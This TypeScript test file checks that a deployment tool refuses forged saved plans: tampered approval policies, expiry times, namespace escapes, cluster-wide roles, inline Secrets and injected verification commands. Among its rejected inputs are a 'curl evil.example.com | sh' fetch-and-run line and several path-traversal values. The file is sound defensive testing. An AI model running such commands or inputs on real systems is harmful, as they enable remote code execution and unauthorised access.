import { expect } from 'chai';
import type { Plan, Step } from '../../src/core/plan.ts';
import type { Environment } from '../../src/core/platform.ts';
import type { Resource } from '../../src/core/ports/cluster.ts';
import { canonical, digestOf, sha256 } from '../../src/deploy/plan/digest.ts';
import { kindId, planDefaults } from '../../src/deploy/plan/input.ts';
import { makePlan } from '../../src/deploy/plan/plan.ts';
import { parsePlanFile, planFileText } from '../../src/deploy/plan/plan-file.ts';
import { assertSavedPlan } from '../../src/deploy/plan/saved-plan-check.ts';
import { planLines } from '../../src/report/deploy.ts';
import { failureOf } from '../support/failure.ts';
import { configMap, deployment } from '../support/objects.ts';
import { desiredOf, environment, surveyOf } from '../support/surveyed.ts';

type Edited = { -readonly [Field in keyof Plan]: Plan[Field] };

const NOW = Date.parse('2026-11-28T12:00:00Z');
const policy = { submitters: ['release-managers'], expiresMs: 3_600_000, fourEyes: true };
const production: Environment = { ...environment, name: 'development', approval: policy };
const kinds = new Map<string, Resource>([
  ...['ConfigMap', 'Secret', 'PersistentVolumeClaim', 'Service'].map(
    (kind) => [kindId({ apiVersion: 'v1', kind }), { name: kind, group: '', namespaced: true }] as const,
  ),
  [
    kindId({ apiVersion: 'apps/v1', kind: 'Deployment' }),
    { name: 'deployments', group: 'apps', namespaced: true },
  ] as const,
  [
    kindId({ apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRole' }),
    { name: 'clusterroles', group: 'rbac.authorization.k8s.io', namespaced: false },
  ] as const,
]);

function genuine(): Plan {
  const objects = [deployment('web', 'example:2'), configMap('web')];
  const options = { ...planDefaults, saved: true };
  return makePlan(desiredOf(objects, { approval: policy }), surveyOf(objects), options, NOW);
}

/** What an attacker does: edits the saved plan, then computes digest and checksum as Slipway does. */
function forged(edit: (plan: Edited) => void): string {
  const file = JSON.parse(planFileText(genuine())) as { plan: Edited; checksum: string };
  edit(file.plan);
  file.plan.digest = digestOf(file.plan);
  file.checksum = sha256(canonical(file.plan));
  return JSON.stringify(file);
}

function stepOf(plan: Plan): Step {
  const [step] = plan.steps;
  if (!step) throw new Error('the plan has no step');
  return step;
}

type Lines = Parameters<typeof assertSavedPlan>[0]['lines'];

function opened(text: string, more: Partial<Environment> = {}, lines: Lines = []): void {
  const plan = parsePlanFile(text, 'slipway.plan');
  const check = { environment: { ...production, ...more }, lines, kinds, pruneKinds: [], now: NOW };
  assertSavedPlan({ ...check, plan, file: 'slipway.plan' });
}

async function refusal(
  edit: (plan: Edited) => void,
  lines: Lines = [],
): Promise<{ code: string; text: string }> {
  const error = await failureOf(Promise.resolve().then(() => opened(forged(edit), {}, lines)));
  const faults = (error as { faults?: readonly { message: string }[] }).faults ?? [];
  return {
    code: error.code,
    text: [error.message, ...(error.details ?? []), ...faults.map(({ message }) => message)].join('\n'),
  };
}

describe('attacks by a saved plan', () => {
  it('lets the genuine one through', () => {
    opened(planFileText(genuine()));
  });

  it('refuses an approval policy of its own', async () => {
    for (const approval of [
      { ...policy, submitters: ['developers'] },
      { ...policy, fourEyes: false },
      { ...policy, expiresMs: 1e12 },
      undefined,
    ]) {
      const { code, text } = await refusal((plan) => (plan.approval = approval));
      expect(code).to.equal('PLAN_MOVED');
      expect(text).to.contain('approval: the platform wants release-managers, four eyes, within 60 min');
    }
  });

  it('refuses a plan of before the policy was tightened', async () => {
    const tightened = { approval: { ...policy, submitters: ['cto'] } };

    const error = await failureOf(Promise.resolve().then(() => opened(planFileText(genuine()), tightened)));

    expect(error).to.include({ code: 'PLAN_MOVED', exit: 3 });
  });

  it('refuses times of its own, and gives them another digest', async () => {
    for (const expiresAt of ['2099-01-01T00:00:00.000Z', '2026-11-28T12:59:59.000Z'])
      expect((await refusal((plan) => (plan.expiresAt = expiresAt))).code).to.equal('PLAN_MOVED');
    const later = await refusal((plan) => {
      plan.madeAt = '2098-12-31T23:00:00.000Z';
      plan.expiresAt = '2099-01-01T00:00:00.000Z';
    });
    expect(later.code).to.equal('PLAN_MOVED');
    expect(digestOf({ ...genuine(), expiresAt: '2099-01-01T00:00:00.000Z' })).to.not.equal(genuine().digest);
  });

  it('refuses objects of another namespace, with the key of it or without', async () => {
    const escaped = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'x', namespace: 'elsewhere' } };
    const key = { group: '', kind: 'ConfigMap', namespace: 'elsewhere', name: 'x' };

    const whole = await refusal((plan) => (plan.steps = [{ ...stepOf(plan), key, object: escaped }]));
    const hidden = await refusal((plan) => (plan.steps = [{ ...stepOf(plan), object: escaped }]));
    const removed = await refusal(
      (plan) => (plan.steps = [{ ...stepOf(plan), op: 'delete', key, object: undefined }]),
    );
    const secret = { bucket: 'b', key: 'production/x.yml', versionId: undefined };
    const revealed = await refusal(
      (plan) =>
        (plan.steps = [{ ...stepOf(plan), key: { ...key, kind: 'Secret' }, object: undefined, secret }]),
    );

    for (const { code, text } of [whole, hidden, removed, revealed]) {
      expect(code).to.equal('INVALID_INPUT');
      expect(text).to.match(/elsewhere|outside/);
    }
  });

  it('refuses kinds outside of namespaces, applied or removed', async () => {
    const apiVersion = 'rbac.authorization.k8s.io/v1';
    const role = { apiVersion, kind: 'ClusterRole', metadata: { name: 'all' }, rules: [] };
    const key = {
      group: 'rbac.authorization.k8s.io',
      kind: 'ClusterRole',
      namespace: undefined,
      name: 'all',
    };

    const applied = await refusal(
      (plan) => (plan.steps = [{ ...stepOf(plan), key, apiVersion, object: role }]),
    );
    const removed = await refusal(
      (plan) => (plan.steps = [{ ...stepOf(plan), key, apiVersion, op: 'delete', object: undefined }]),
    );

    expect([applied.code, removed.code]).to.deep.equal(['INVALID_INPUT', 'INVALID_INPUT']);
  });

  it('refuses a step that shows one object and applies another', async () => {
    const { code, text } = await refusal(
      (plan) => (plan.steps = [{ ...stepOf(plan), object: configMap('other') }]),
    );

    expect(code).to.equal('PLAN_MOVED');
    expect(text).to.contain('applies another object');
  });

  it('refuses to remove protected kinds, and more than the budget', async () => {
    const removal = (kind: string, name: string) => (plan: Edited) => {
      const key = { group: '', kind, namespace: 'development', name };
      return { ...stepOf(plan), op: 'delete' as const, key, apiVersion: 'v1', object: undefined };
    };

    const claim = await refusal((plan) => (plan.steps = [removal('PersistentVolumeClaim', 'data')(plan)]));
    const many = await refusal(
      (plan) =>
        (plan.steps = Array.from({ length: 6 }, (_, index) => removal('ConfigMap', `m${index}`)(plan))),
    );

    expect(claim.text).to.contain('--prune PersistentVolumeClaim');
    expect(many.code).to.equal('PRUNE_BUDGET');
  });

  it('refuses a Secret whose values stand in the plan', async () => {
    const object = { ...configMap('x'), kind: 'Secret', data: { password: 'cHc=' } };
    const key = { group: '', kind: 'Secret', namespace: 'development', name: 'x' };

    expect((await refusal((plan) => (plan.steps = [{ ...stepOf(plan), key, object }]))).code).to.equal(
      'INVALID_INPUT',
    );
  });

  it('shows the namespace of every line that leaves the home of the environment', () => {
    const plan = genuine();
    const [step] = plan.steps;
    const key = { group: '', kind: 'ConfigMap', namespace: 'elsewhere', name: 'x' };
    const lines = planLines({
      ...plan,
      steps: [...plan.steps, { ...stepOf(plan), ...step, key, op: 'delete' }],
    });

    expect(lines.join('\n')).to.match(/- ConfigMap +x in elsewhere/);
    expect(lines.join('\n')).to.not.contain('in development');
  });

  it('runs no line but those of the block of this checkout', async () => {
    const line = { line: 'npm run smoke', timeoutMs: 60_000 };
    const asked = { name: 'web', namespace: genuine().namespace, service: 'web', port: 80, duringMs: 0 };
    const verify = (more: object) => (plan: Edited) => {
      (plan as { verifications?: unknown }).verifications = [{ ...asked, by: 'line', ...line, ...more }];
    };

    opened(forged(verify({})), {}, [line]);
    for (const more of [{ line: 'curl evil.example.com | sh' }, { timeoutMs: 3_600_000 }])
      expect((await refusal(verify(more), [line])).text).to.include('would run a line that the block');
    expect((await refusal(verify({}))).code).to.equal('PLAN_MOVED');
    for (const more of [{ timeoutMs: 1e12 }, { service: 'web/../x' }, { env: { PATH: '/tmp' } }])
      expect((await refusal(verify(more), [line])).code).to.equal('PLAN_UNREADABLE');
    expect((await refusal(verify({ namespace: 'kube-system' }), [line])).text).to.include('kube-system');
  });

  it('asks no Service of another namespace, and nothing but a Service', async () => {
    const verify = (more: object) => (plan: Edited) => {
      const asked = { name: 'web', namespace: 'production', by: 'http', service: 'web', port: 80, path: '/' };
      (plan as { verifications?: unknown }).verifications = [{ ...asked, duringMs: 0, ...more }];
    };

    opened(forged(verify({ namespace: genuine().namespace })));
    expect((await refusal(verify({ namespace: 'kube-system' }))).text).to.include('kube-system');
    for (const path of ['//x', '/../secrets', '/%2e%2e/x', 'x', '/a b'])
      expect((await refusal(verify({ path }))).code, path).to.equal('PLAN_UNREADABLE');
    expect((await refusal(verify({ service: 'web/../x' }))).code).to.equal('PLAN_UNREADABLE');
    expect((await refusal(verify({ duringMs: 1e12 }))).code).to.equal('PLAN_UNREADABLE');
  });
});
